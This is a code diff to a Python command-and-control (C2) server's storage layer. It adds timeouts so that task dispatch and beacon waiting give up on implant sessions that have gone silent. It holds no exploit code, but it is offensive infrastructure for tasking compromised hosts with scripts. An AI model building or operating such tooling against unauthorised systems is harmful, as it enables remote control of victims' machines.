@@ -10,6 +10,9 @@ from typing import Any
 
 HOME = pathlib.Path("/var/lib/c2")
 MOST_SESSIONS, MOST_UPLOADS = 200, 200
+# An implant that lives and gets through beacons every five seconds, and after a try that hung every 21.
+# One that has been silent for longer than SILENT, and stays so for GRACE after it was given a task, is gone.
+SILENT, GRACE = 30.0, 8.0
 LARGEST_TEXT, LARGEST_UPLOAD = 262_144, 32 * 2**20
 SCHEMA = """
 CREATE TABLE IF NOT EXISTS session (id TEXT PRIMARY KEY, first REAL, last REAL, count INTEGER, address TEXT);
@@ -85,13 +88,22 @@ class Store:
             )
             self.changed.notify_all()
 
+    def _hope(self, session: str, began: float) -> float:
+        """Seconds for which it makes sense to wait for a session; without end where nothing is known of it."""
+        known = self._one("SELECT last FROM session WHERE id = ?", session)
+        busy = self._one("SELECT 1 FROM task WHERE session = ? AND state = 'taken'", session)
+        if not known or busy:
+            return float("inf")
+        return max(float(known[0]) + SILENT - time.time(), began + GRACE - time.monotonic())
+
     def run(self, session: str, task: str, seconds: float, script: str) -> dict[str, Any] | None:
         """Give a task to a session and wait for its result; None when nobody answered in time.
 
         A task id runs at most once: asking again waits for, or repeats, the same result. A task that
-        nobody took in time is withdrawn, so that it cannot run later.
+        nobody took in time is withdrawn, so that it cannot run later. A session that is gone is not waited for.
         """
-        deadline = time.monotonic() + seconds
+        began = time.monotonic()
+        deadline = began + seconds
         with self.changed:
             self.db.execute(
                 "INSERT OR IGNORE INTO task VALUES (?, ?, ?, ?, 'queued', NULL, ?)",
@@ -102,7 +114,7 @@ class Store:
                 if result:
                     kept: dict[str, Any] = json.loads(result[0])
                     return kept
-                left = deadline - time.monotonic()
+                left = min(deadline - time.monotonic(), self._hope(session, began))
                 if left <= 0:
                     self.db.execute("DELETE FROM task WHERE id = ? AND state = 'queued'", (task,))
                     return None
@@ -110,7 +122,8 @@ class Store:
 
     def beacons(self, session: str, count: int, seconds: float) -> dict[str, Any] | None:
         """Wait until a session beaconed `count` more times; its row, or None."""
-        deadline = time.monotonic() + seconds
+        began = time.monotonic()
+        deadline = began + seconds
         query = "SELECT first, last, count, address FROM session WHERE id = ?"
         with self.changed:
             before = self._one(query, session)
@@ -119,7 +132,7 @@ class Store:
                 row = self._one(query, session)
                 if row and row[2] >= wanted:
                     return {"first": row[0], "last": row[1], "count": row[2], "address": row[3]}
-                left = deadline - time.monotonic()
+                left = min(deadline - time.monotonic(), self._hope(session, began))
                 if left <= 0:
                     return None
                 self.changed.wait(left)
